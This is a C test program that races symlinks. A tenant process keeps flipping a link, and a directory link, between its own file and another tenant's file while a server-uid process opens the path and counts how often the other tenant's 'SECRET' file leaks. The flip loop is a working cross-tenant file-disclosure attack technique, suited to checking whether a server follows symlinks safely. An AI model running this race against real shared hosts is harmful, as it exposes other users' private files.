/* A tenant against whoever serves its files: it renames links over each other as fast as it can, one that leads to its
 * own file and one that leads to another tenant's, while a task of the web server's opens that name again and again.
 *
 *   link-race OPENS TENANT SERVER OWN OTHER    uids; directories of the tenant and of the other one, each with "file"
 *
 * First the link is the last name of the path, then a directory within it. Prints for each what the opens found. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

static void become(unsigned id) {
  if (setgroups(0, NULL) || setgid(id) || setuid(id)) {
    perror("become");
    exit(1);
  }
}

static void point(const char *name, const char *to) {
  char temporary[512];

  snprintf(temporary, sizeof temporary, "%s.new", name);
  unlink(temporary);
  if (symlink(to, temporary) || rename(temporary, name)) {
    perror(name);
    exit(1);
  }
}

static void flip(unsigned tenant, const char *own, const char *other) {
  char own_file[256], other_file[256];

  prctl(PR_SET_PDEATHSIG, SIGKILL);
  become(tenant);
  snprintf(own_file, sizeof own_file, "%s/file", own);
  snprintf(other_file, sizeof other_file, "%s/file", other);
  if (chdir(own))
    exit(1);
  for (;;) {
    point("flip", own_file);
    point("flip-directory", own);
    point("flip", other_file);
    point("flip-directory", other);
  }
}

struct found {
  long own, leaked, refused, else_;
};

static struct found open_all(long opens, const char *path) {
  struct found found = {0};

  for (long i = 0; i < opens; i++) {
    char text[16] = "";
    int fd = open(path, O_RDONLY);

    if (fd < 0) {
      if (errno == EACCES)
        found.refused++;
      else
        found.else_++;
      continue;
    }
    if (read(fd, text, sizeof text - 1) > 0 && !strncmp(text, "SECRET", 6))
      found.leaked++;
    else
      found.own++;
    close(fd);
  }
  return found;
}

int main(int argc, char **argv) {
  if (argc != 6)
    return 2;
  long opens = atol(argv[1]);
  unsigned tenant = atoi(argv[2]), server = atoi(argv[3]);
  const char *own = argv[4], *names[] = {"flip", "flip-directory/file"};
  pid_t flipper = fork();

  if (!flipper)
    flip(tenant, own, argv[5]);
  pid_t opener = fork();
  if (!opener) {
    char path[512];

    become(server);
    snprintf(path, sizeof path, "%s/flip-directory", own);
    while (access(path, F_OK) && errno == ENOENT)
      usleep(1000);
    for (int i = 0; i < 2; i++) {
      snprintf(path, sizeof path, "%s/%s", own, names[i]);
      struct found found = open_all(opens, path);
      printf("%s: own %ld leaked %ld refused %ld else %ld\n", names[i], found.own, found.leaked,
             found.refused, found.else_);
    }
    return 0;
  }
  int status;
  waitpid(opener, &status, 0);
  kill(flipper, SIGKILL);
  waitpid(flipper, NULL, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
